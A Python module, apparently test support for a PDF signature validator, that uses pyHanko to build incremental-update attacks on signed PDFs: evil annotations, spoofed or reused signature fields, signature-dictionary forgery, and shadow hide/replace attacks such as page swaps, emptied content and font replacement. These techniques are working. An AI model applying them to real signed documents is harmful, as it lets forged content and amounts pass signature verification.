"""Attacks by an update after the signature: the signed bytes stay as they are."""

import io
from collections.abc import Callable

from pyhanko.pdf_utils.generic import (
    ArrayObject,
    ByteStringObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NullObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

BOX = (60, 500, 540, 700)
Change = Callable[[IncrementalPdfFileWriter], None]


def updated(data: bytes, change: Change) -> bytes:
    """The document with an incremental update after it, as an editor would write it."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    change(writer)
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def name(text: str) -> NameObject:
    return NameObject(f"/{text}")


def first_page(writer: IncrementalPdfFileWriter) -> DictionaryObject:
    return writer.find_page_for_modification(0)[0].get_object()


def painted(writer: IncrementalPdfFileWriter) -> DictionaryObject:
    """An appearance that covers its whole box."""
    stream = StreamObject(stream_data=b"1 1 1 rg 0 0 480 200 re f 0 0 0 rg 40 40 80 80 re f")
    stream[name("Type")], stream[name("Subtype")] = name("XObject"), name("Form")
    stream[name("BBox")] = ArrayObject(NumberObject(v) for v in (0, 0, 480, 200))
    return DictionaryObject({name("N"): writer.add_object(stream)})


def annotate(kind: str) -> Change:
    """Certified documents, evil annotation: one that looks like the document itself."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        annotation = DictionaryObject(
            {
                name("Type"): name("Annot"),
                name("Subtype"): name(kind),
                name("Rect"): ArrayObject(FloatObject(v) for v in BOX),
                name("F"): NumberObject(4),
                name("Contents"): TextStringObject("100 triệu"),
                name("AP"): painted(writer),
            }
        )
        page = first_page(writer)
        page[name("Annots")] = ArrayObject([*page.get("/Annots", []), writer.add_object(annotation)])
        writer.update_container(page)

    return change


def add_signature_field(value: Callable[[DictionaryObject], object]) -> Change:
    """A visible signature field with the `value` that is made of the first signature."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        form = writer.root["/AcroForm"]
        first = form["/Fields"][0]
        field = DictionaryObject(
            {
                name("FT"): name("Sig"),
                name("T"): TextStringObject("Giả"),
                name("Type"): name("Annot"),
                name("Subtype"): name("Widget"),
                name("Rect"): ArrayObject(FloatObject(v) for v in BOX),
                name("F"): NumberObject(4),
                name("AP"): painted(writer),
                name("V"): value(first),
            }
        )
        added = writer.add_object(field)
        form["/Fields"].append(added)
        writer.update_container(form["/Fields"])
        page = first_page(writer)
        page[name("Annots")] = ArrayObject([*page.get("/Annots", []), added])
        writer.update_container(page)

    return change


def same_dictionary(field: DictionaryObject) -> object:
    """Reused signature dictionary."""
    return field.raw_get("/V")


def spoofed_dictionary(field: DictionaryObject) -> object:
    """A signature dictionary that holds nothing that was ever signed."""
    return DictionaryObject(
        {
            name("Type"): name("Sig"),
            name("Filter"): name("Adobe.PPKLite"),
            name("SubFilter"): name("ETSI.CAdES.detached"),
            name("ByteRange"): ArrayObject(NumberObject(v) for v in field["/V"]["/ByteRange"]),
            name("Contents"): ByteStringObject(b"\x30\x03\x02\x01\x01"),
            name("Name"): TextStringObject("Chủ tịch"),
        }
    )


def alter_dictionary(key: str, value: object = None) -> Change:
    """Universal forgery: an entry of the signature dictionary missing, or set to `value`."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        signature = writer.root["/AcroForm"]["/Fields"][0]["/V"]
        if value is None:
            del signature[key]
        else:
            signature[name(key[1:])] = value
        writer.update_container(signature)

    return change


def paint_over(writer: IncrementalPdfFileWriter) -> None:
    """Incremental saving: the content of a page."""
    stream = StreamObject(stream_data=b"1 1 1 rg 60 500 480 200 re f")
    writer.add_stream_to_page(0, writer.add_object(stream))


def show_other_page(writer: IncrementalPdfFileWriter) -> None:
    """Shadow, hide and replace: the page tree leads to a page that was prepared and hidden."""
    page = DictionaryObject(first_page(writer))
    page[name("Contents")] = writer.add_object(StreamObject(stream_data=b"0 0 1 rg 0 0 300 300 re f"))
    pages = writer.root["/Pages"]
    pages["/Kids"][0] = writer.add_object(page)
    writer.update_container(pages["/Kids"])


def empty_content(writer: IncrementalPdfFileWriter) -> None:
    """Shadow, hide: what covered another content is made empty."""
    contents = first_page(writer)["/Contents"]
    contents = contents[0] if isinstance(contents, ArrayObject) else contents
    contents._data, contents._encoded_data = b"q Q", None
    contents.pop("/Filter", None)
    writer.update_container(contents)


def replace_font(writer: IncrementalPdfFileWriter) -> None:
    """Shadow, replace: the same codes, other letters."""
    page = first_page(writer)
    node = page if "/Resources" in page else writer.root["/Pages"]
    fonts = node["/Resources"]["/Font"]
    for key in list(fonts):
        font = DictionaryObject(
            {name("Type"): name("Font"), name("Subtype"): name("Type1"), name("BaseFont"): name("Symbol")}
        )
        fonts[name(key[1:])] = writer.add_object(font)
    writer.update_container(fonts)


NULL = NullObject()
